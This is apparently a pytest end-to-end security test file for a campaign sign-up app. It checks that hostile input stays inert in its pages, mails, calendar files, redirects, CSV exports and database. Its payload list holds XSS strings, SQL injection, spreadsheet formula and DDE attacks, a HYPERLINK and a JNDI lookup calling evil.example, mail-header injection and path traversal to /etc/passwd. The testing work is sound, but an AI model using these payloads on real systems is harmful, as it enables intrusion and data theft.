"""
test_injection: a corpus of hostile text in every field a stranger or an organizer
types, followed to every place it comes out: the public pages, the three mails
(headers, text and HTML parts, the calendar file), the one-click redirect, the
dashboard, the CSV export, and the database itself.

Each payload lands in each field once, by rotation: supporter i gets payload i as
their name and payload i+1 as their statement, and campaign j gets payload j+k
in its k-th free-text field. What must hold wherever it comes out:
  - HTML: the payload never appears raw when it holds a character HTML gives a
    meaning to, and no markup it carries (a tag, an event handler, a javascript:
    link) reaches the page;
  - mail: no header is added or split, every header is one line, the HTML part
    follows the HTML rule, the `.ics` lines fold and escape;
  - the redirect: one Location header, percent-encoded, and the prefilled text is
    the payload exactly (a `{{...}}` in a statement is text, never a placeholder);
  - CSV: no cell starts with a formula character, however disguised;
  - the store: SQL-looking text is data; the counts add up afterwards.
A payload may be refused (4xx, or exit 2 for a campaign file) with a message, but
never answered with a 5xx, never half-stored.

Run: /usr/bin/python3 -m pytest -q tests/e2e/test_injection.py
"""
import csv
import html
import html.parser
import json
import re
import urllib.parse

import pytest

from conftest import make_campaign
from test_admin import Organizer, add_organizer

# Text a supporter types: every class of injection tried against muster from
# outside (markup, attributes, URLs, templates, SQL, spreadsheet formulas, mail
# headers, terminal escapes, bidirectional overrides, encodings, sizes).
SUPPORTER_PAYLOADS = [
    '<script>alert("inj1")</script>',
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    '<a href="javascript:alert(6)">click</a>',
    "javascript:alert(7)",
    "<!--",
    "]]><![CDATA[<b>x</b>",
    "&lt;script&gt;alert(8)&lt;/script&gt;",
    "{{email}}",
    "{{#name}}x{{/name}}{{campaign.title}}",
    "Robert'); DROP TABLE supporters;--",
    "\" OR 1=1 --",
    "1; SELECT * FROM organizers; --",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|" /C calc"!A0',
    "-2+3*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\uff1d1+1",
    "line one\r\nBcc: victim@example.net",
    "line one\nX-Injected: 1",
    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202eevil\u202c text",
    "%0d%0aSet-Cookie:%20inj=1",
    "%3Cscript%3Ealert(9)%3C/script%3E",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u03a9\u2248\u00e7\u221a \u6f22\u5b57 \u0645\u0631\u062d\u0628\u0627 \U0001F44D\U0001F3FD",
    "a\u0000b",
    "x" * 5000,
]

# Characters that give text a meaning in HTML.
HTML_SPECIAL = set("<>\"'&")
class _Markup(html.parser.HTMLParser):
    """Every element and attribute of a page as a browser's parser sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []  # what no payload may add: handlers, javascript: links, tags
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        if tag in ("iframe", "object", "embed", "base") or \
                (tag == "img" and ("src", "x") in attrs):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction") and value and \
                    value.strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")
        self.in_script = tag == "script"

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if self.in_script and "alert(" in data:
            self.found.append("<script> with alert(")


# What a spreadsheet reads as a formula at the start of a cell (OWASP's list, with
# the fullwidth signs some spreadsheets fold to them).
FORMULA_START = re.compile("^[\\s\u3000]*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def assert_html_safe(where, page, payloads):
    parser = _Markup()
    parser.feed(page)
    parser.close()
    assert not parser.found, f"{where}: markup from a payload reached the page: {parser.found}"
    for p in payloads:
        if HTML_SPECIAL & set(p) and len(p) > 3:
            assert p not in page, f"{where}: a payload appears unescaped: {p!r}"
    assert "\x1b" not in page, f"{where}: a terminal escape reached the page"


def assert_mail_safe(where, mail, payloads):
    names = [k.lower() for k in mail.msg.keys()]
    assert "bcc" not in names and "x-injected" not in names, \
        f"{where}: a header was injected: {mail.msg.keys()}"
    head = mail.raw.split(b"\r\n\r\n", 1)[0]
    for line in head.split(b"\r\n"):
        assert b"\n" not in line and b"\r" not in line, f"{where}: a bare line end in {line!r}"
        assert b"\x1b" not in line and b"\x00" not in line, f"{where}: control bytes in {line!r}"
    assert_html_safe(f"{where} (HTML part)", mail.html(), payloads)
    for part, raw in mail.calendars():
        for line in raw.split(b"\r\n"):
            assert len(line) <= 75, f"{where}: an .ics line longer than 75 octets: {line!r}"
            assert b"\n" not in line and b"\x1b" not in line, f"{where}: .ics line {line!r}"


def stored_as(payload):
    """What muster keeps of a typed payload it accepted: the text itself, where
    line ends may be normalised."""
    return payload.replace("\r\n", "\n")


def prefill_of(location):
    """The decoded query parameters of the prefilled action URL."""
    split = urllib.parse.urlsplit(location)
    return {k: v for k, v in urllib.parse.parse_qsl(split.query, keep_blank_values=True)}


def test_hostile_text_from_supporters_is_inert_everywhere_it_comes_out(make_muster, smtp):
    m = make_muster()
    n = len(SUPPORTER_PAYLOADS)
    accepted = []  # (email, name, statement)
    for i in range(n):
        name = SUPPORTER_PAYLOADS[i]
        statement = SUPPORTER_PAYLOADS[(i + 1) % n]
        addr = f"inj{i}@example.org"
        r = m.pledge(addr, name=name, statement=statement)
        assert r.status < 500, f"payload {i} made a {r.status}: {r}"
        if r.status == 202:
            accepted.append((addr, name, statement))
        else:
            # a refusal names the field and says what was wrong
            assert r.status in (400, 413, 422), r
            errors = r.json().get("errors")
            assert errors and all(isinstance(v, str) and v for v in errors.values()), r
    assert len(accepted) >= n // 2, f"only {len(accepted)} of {n} payload pledges were accepted"

    # confirm page, confirmation and welcome mails
    for addr, name, statement in accepted:
        confirm_mail = smtp.wait_one(addr, "confirm")
        assert_mail_safe(f"confirm mail to {addr}", confirm_mail, SUPPORTER_PAYLOADS)
        path = urllib.parse.urlsplit(confirm_mail.link("/confirm/")).path
        page = m.get(path)
        assert page.status == 200, page
        assert_html_safe(f"GET {path}", page.text, SUPPORTER_PAYLOADS)
        done = m.post(path)
        assert done.status == 200, done
        assert_html_safe(f"POST {path}", done.text, SUPPORTER_PAYLOADS)
        welcome = smtp.wait_one(addr, "welcome")
        assert_mail_safe(f"welcome mail to {addr}", welcome, SUPPORTER_PAYLOADS)

    # the launch: reminders, the one-click redirect and the action page
    m.launch()
    for addr, name, statement in accepted:
        reminder = smtp.wait_one(addr, "reminder")
        assert_mail_safe(f"reminder to {addr}", reminder, SUPPORTER_PAYLOADS)
        path = urllib.parse.urlsplit(reminder.link("/a/")).path
        review = m.get(path + "?review=1")
        assert review.status == 200, review
        assert_html_safe(f"GET {path}?review=1", review.text, SUPPORTER_PAYLOADS)
        go = m.get(path)
        assert go.status == 302, go
        locations = go.headers.get_all("Location")
        assert len(locations) == 1, locations
        location = locations[0]
        assert re.fullmatch(r"[\x21-\x7e]+", location), f"Location not percent-encoded: {location!r}"
        assert not location.lower().startswith("javascript:"), location
        # the target's message parameter (body=, issue[description]=, text=...)
        prefilled = "\n".join(prefill_of(location).values()).replace("\r\n", "\n")
        if statement.strip():
            assert stored_as(statement).strip() in prefilled, \
                f"the statement is not prefilled as typed: {statement!r} in {location!r}"
        assert addr not in prefilled, f"a placeholder in typed text was expanded: {location!r}"

    # the CSV export: every cell inert for a spreadsheet
    for row in m.export("supporters"):
        for key, cell in row.items():
            assert not FORMULA_START.match(cell or ""), f"CSV cell {key}={cell!r} is a formula"
    exported = {r["email"]: r for r in m.export("supporters")}
    for addr, name, statement in accepted:
        row = exported[addr]
        # the name as typed, behind the ' that neutralises a formula when it needed one
        value = row["name"]
        if value.startswith("'") and not name.startswith("'"):
            value = value[1:]
        assert value.strip() == stored_as(name).strip(), (row["name"], name)

    # the dashboard, and its own CSV export
    add_organizer(m)
    org = Organizer(m)
    assert org.login().status == 303
    for path in ("/admin", f"/admin/campaigns/{m.slug}", f"/admin/campaigns/{m.slug}/charts"):
        page = org.get(path)
        assert page.status == 200, (path, page)
        assert_html_safe(path, page.text, SUPPORTER_PAYLOADS)
    page = org.get(f"/admin/campaigns/{m.slug}/export/supporters.csv")
    assert page.status == 200, page
    for row in csv.reader(page.text.splitlines()):
        for cell in row:
            assert not FORMULA_START.match(cell), f"dashboard CSV cell {cell!r} is a formula"

    # the SQL-looking text was data: every accepted pledge is there, nothing else
    assert m.stats()["pledges"] == len(accepted)
    assert m.stats()["confirmed"] == len(accepted)


# Free-text fields of a campaign file, as (path, setter).
def _set(path):
    def setter(doc, value):
        node = doc
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
    return ".".join(str(k) for k in path), setter


CAMPAIGN_FIELDS = [
    _set(("title",)),
    _set(("description",)),
    _set(("organizer", "name")),
    _set(("message", "title")),
    _set(("statement", "prompt")),
    _set(("closed_message",)),
    _set(("targets", 0, "label")),
    _set(("targets", 1, "label")),
    _set(("targets", 2, "label")),
]

# One line each (a campaign file is refused as a whole for a control character, so
# those are tried on their own below), no template syntax (that is the template
# tests' business), the rest of the corpus.
CAMPAIGN_PAYLOADS = [p for p in SUPPORTER_PAYLOADS
                     if p.isprintable() and "{{" not in p and len(p) < 200]


def test_hostile_text_in_a_campaign_file_is_inert_on_pages_and_in_mails(make_muster, smtp):
    n = len(CAMPAIGN_PAYLOADS)
    m = make_muster(apply=False)
    for j in range(n):
        doc = make_campaign({"slug": f"inj-{j}"})
        for k, (field, setter) in enumerate(CAMPAIGN_FIELDS):
            setter(doc, CAMPAIGN_PAYLOADS[(j + k) % n])
        # the message body: the payload as text around the template's placeholders
        doc["message"]["body"] = CAMPAIGN_PAYLOADS[j] + "\n{{#name}}-- {{name}}{{/name}}"
        code, out, err = m.apply(doc, name=f"inj-{j}.json")
        assert code == 0, f"campaign {j} with printable payloads was refused: {err}"

    for j in range(n):
        slug = f"inj-{j}"
        page = m.get(f"/c/{slug}")
        assert page.status == 200, page
        assert_html_safe(f"GET /c/{slug}", page.text, CAMPAIGN_PAYLOADS)
        addr = f"camp{j}@example.org"
        r = m.pledge(addr, name="Ann", slug=slug)
        assert r.status == 202, r
        confirm_mail = smtp.wait_one(addr, "confirm")
        assert_mail_safe(f"{slug} confirm mail", confirm_mail, CAMPAIGN_PAYLOADS)
        path = urllib.parse.urlsplit(confirm_mail.link("/confirm/")).path
        assert_html_safe(f"GET {path}", m.get(path).text, CAMPAIGN_PAYLOADS)
        done = m.post(path)
        assert done.status == 200, done
        assert_html_safe(f"POST {path}", done.text, CAMPAIGN_PAYLOADS)
        welcome = smtp.wait_one(addr, "welcome")
        assert_mail_safe(f"{slug} welcome mail", welcome, CAMPAIGN_PAYLOADS)
        code, out, err = m.cli("launch", slug)
        assert code == 0, err
        reminder = smtp.wait_one(addr, "reminder")
        assert_mail_safe(f"{slug} reminder", reminder, CAMPAIGN_PAYLOADS)
        apath = urllib.parse.urlsplit(reminder.link("/a/")).path
        review = m.get(apath + "?review=1")
        assert review.status == 200, review
        assert_html_safe(f"GET {apath}?review=1", review.text, CAMPAIGN_PAYLOADS)
        go = m.get(apath)
        assert go.status == 302, go
        assert re.fullmatch(r"[\x21-\x7e]+", go.header("Location")), go.header("Location")
        [ics] = [u for u in welcome.links() if "/calendar/" in u]
        cal = m.get(urllib.parse.urlsplit(ics).path.rstrip(").,"))
        assert cal.status == 200, cal
        for line in cal.body.split(b"\r\n"):
            assert len(line) <= 75 and b"\n" not in line, f"{slug} .ics line {line!r}"

    add_organizer(m)
    org = Organizer(m)
    assert org.login().status == 303
    for j in range(n):
        for path in ("/admin", f"/admin/campaigns/inj-{j}", f"/admin/campaigns/inj-{j}/edit"):
            page = org.get(path)
            assert page.status == 200, (path, page)
            assert_html_safe(path, page.text, CAMPAIGN_PAYLOADS)


@pytest.mark.parametrize("field,payload", [
    ("title", "Day\r\nBcc: victim@example.net"),
    ("title", "Day\x1b[2J"),
    ("organizer.name", "Team\nX-Injected: 1"),
    ("message.title", "Issue\x00title"),
])
def test_a_campaign_file_with_a_control_character_is_refused_or_kept_inert(make_muster, smtp,
                                                                           field, payload):
    m = make_muster(apply=False)
    doc = make_campaign({"slug": "ctl"})
    [setter] = [s for f, s in CAMPAIGN_FIELDS if f == field] or [_set(tuple(field.split(".")))[1]]
    setter(doc, payload)
    code, out, err = m.apply(doc, name="ctl.json")
    if code != 0:
        assert code == 2, (code, err)
        assert field.split(".")[-1] in err, f"the refusal does not name the field: {err}"
        assert m.get("/c/ctl").status == 404
        return
    r = m.pledge("ctl@example.org", name="Ann", slug="ctl")
    assert r.status == 202, r
    assert_mail_safe("confirm mail", smtp.wait_one("ctl@example.org", "confirm"), [payload])
    assert_html_safe("GET /c/ctl", m.get("/c/ctl").text, [payload])


def test_injection_in_the_url_and_headers_gets_a_clean_answer(muster):
    tries = [
        ("GET", "/c/docs-day%0d%0aSet-Cookie:%20inj=1", {}),
        ("GET", "/c/%3Cscript%3Ealert(1)%3C%2Fscript%3E", {}),
        ("GET", "/confirm/%27%20OR%201=1--", {}),
        ("GET", "/a/..%2f..%2fetc%2fpasswd", {}),
        ("GET", "/u/" + "A" * 4000, {}),
        ("GET", "/c/docs-day?x=%00%ff%fe", {}),
        ("GET", "/c/docs-day", {"Accept-Language": "<script>alert(1)</script>"}),
        ("GET", "/c/docs-day", {"X-Forwarded-For": "127.0.0.1\r\n"[:-2] + ", <script>"}),
        ("POST", "/c/docs-day/pledge", {"Content-Type": "application/json; charset=\"><x"}),
    ]
    for method, path, headers in tries:
        r = muster.request(method, path, headers=headers,
                           body=b"{}" if method == "POST" else None)
        assert r.status < 500, f"{method} {path} {headers}: {r}"
        assert "Set-Cookie" not in r.headers or "inj=1" not in r.headers.get("Set-Cookie"), r
        assert_html_safe(f"{method} {path}", r.text, ["<script>alert(1)</script>", "<x"])
